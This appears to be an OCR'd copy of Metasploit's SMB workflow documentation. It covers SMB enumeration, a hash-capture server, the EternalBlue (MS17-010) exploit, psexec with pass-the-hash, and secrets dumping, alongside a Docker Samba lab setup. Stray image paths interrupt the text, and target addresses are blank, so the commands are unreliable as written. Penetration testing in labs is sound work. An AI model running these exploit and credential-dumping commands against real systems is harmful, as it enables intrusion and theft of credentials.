Link Search Menu Expand Document

SMB Workflows

SMB (Server Message Blocks), is a way for sharing files across nodes on a network.

There are two main ports for SMB:

  • 139/TCP - Initially Microsoft implemented SMB ontop of their existing NetBIOS network architecture, which allowed for Windows computers to communicate across the same network
  • 445/TCP - Newer versions of SMB use this port, were NetBIOS is not used.

Other terminology to be aware of:

  • SMB - Serer Message Blocks
  • CIFS - Common Internet File System
  • Samba - A free software re-implementation of SMB, which is frequently found on unix-like systems

Metasploit has support for multiple SMB modules, including:

  • Version enumeration
  • Verifying/bruteforcing credentials
  • Capture modules
  • Relay modules
  • File transfer
  • Exploit modules

There are more modules than listed here, for the full list of modules run the search command within msfconsole:msf6 > search mysql

Lab Environment

When testing in a lab environment - SMB can be used on a Window’s host machine, or within Docker.

Forinstance running Samba on Ubuntu 16.04:

docker run -it --rm --publish --publish ubuntu:16.04 /bin/bash
mkdir -p /tmp/foo
apt update
apt install -y samba

Verifying version is as expected:

$ samba --version
Version 4.3.11-Ubuntu

Configuring the share:

cat << EOF >> /etc/samba/smb.conf
    comment = Foo samba share
    path = /tmp/foo
    read only = no
    browsable = yes

Restart the service:

service smbd restart

SMB Enumeration

Enumerate SMB version:

use auxiliary/scanner/smb/smb_versionrun smb://

Enumerate shares:

use auxiliary/scanner/smb/smb_enumshares
run smb://
run smb://user:pass@
run 'smb://domain;user with spaces:pass@' SMB::AlwaysEncrypt=false SMB::ProtocolVersion=1

Enumerate shares and show all files recursively:

use auxiliary/scanner/smb/smb_enumshares
run 'smb://user:pass with a space@' showfiles=true spidershares=true

Enumerate users:

use auxiliary/scanner/smb/smb_enumusers
run smb://user:p4$$w0rd@

Enumerate gpp files in a SMB share:

use auxiliary/scanner/smb/smb_enum_gpp
run smb:// verbose=true store=truerun smb://user:p4$$w0rd@ verbose=true store=true

SMB Server

Create a mock SMB server which accepts credentials before returning NT_STATUS_LOGON_FAILURE. These hashes can then be cracked later:

use auxiliary/server/capture/smb

SMB MS17-010

Metasploit has a module for MS17-010, dubbed Eternal Blue, which has the capability to target Windows 7, Windows 8.1, Windows 2012 R2, and Windows 10.

Checking for exploitability:

use auxiliary/scanner/smb/smb_ms17_010
check smb://user:pass@
check smb://domain;user:pass@
check cidr:/24:smb://user:pass@ threads=32

As of 2021, Metasploit supports a single exploit module for which has the capability to target Windows 7, Windows 8.1, Windows 2012 R2, and Windows 10, full details within the Metasploit Wrapup:

use exploit/windows/smb/ms17_010_eternalblue
run lhost=
run lhost= lport=5000
run smb://user:pass@ lhost=
run smb://domain;user:pass@ lhost=

SMB psexec

Running psexec against a remote host with credentials:

use exploit/windows/smb/psexec
run smb://user:pass8@ lhost= lport=5000

Running psexec with NTLM hashes:

use exploit/windows/smb/psexec
runsmb://Administrator:aad3b435b51404eeaad3b435b51404ee:32693b11e6aa90eb43d32c72a07ceea6@ lhost= lport=5000

SMB Dumping

Dumping secrets with credentials:

use auxiliary/gather/windows_secrets_dump
runsmb://user:pass@

Dumping secrets with NTLM hashes

use auxiliary/gather/windows_secrets_dump
run smb://Administrator:aad3b435b51404eeaad3b435b51404ee:15feae27e637cb98ffacdf0a840eeb4b@

SMB Files

Download afile:

use auxiliary/admin/smb/download_file
run smb://a:p4$$w0rd@

Upload a file:

use auxiliary/admin/smb/upload_file
echo "my file" >local_file.txt
run smb://a:p4$$w0rd@lpath=./local_file.txt